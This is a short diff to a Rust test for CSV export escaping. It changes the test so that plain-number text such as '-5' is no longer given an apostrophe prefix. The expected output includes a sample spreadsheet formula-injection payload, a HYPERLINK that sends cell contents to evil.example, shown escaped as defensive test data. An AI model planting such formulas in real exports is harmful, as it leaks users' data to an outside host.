@@ -218,8 +218,8 @@ mod tests {
     }
 
     /// A text cell a spreadsheet would run (`=`, `+`, `-`, `@`, TAB, CR first) is written
-    /// with a `'` first, as `export` writes it; a negative number is not text and stays a
-    /// number. JSON Lines keeps the exact text.
+    /// with a `'` first, as `export` writes it; a negative number stays a number, and so does
+    /// a text that is a plain number (`-5`). JSON Lines keeps the exact text.
     #[test]
     fn csv_text_cells_that_look_like_formulas_are_prefixed_numbers_are_not() {
         let schema = Arc::new(Schema::new(vec![
@@ -256,7 +256,7 @@ mod tests {
         assert_eq!(
             answer(Format::Csv),
             "n,s,d\n\
-             -5,'-5,'@SUM(A1)\n\
+             -5,-5,'@SUM(A1)\n\
              7,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",'\tx\n\
              -1,ok-1,plain\n"
         );
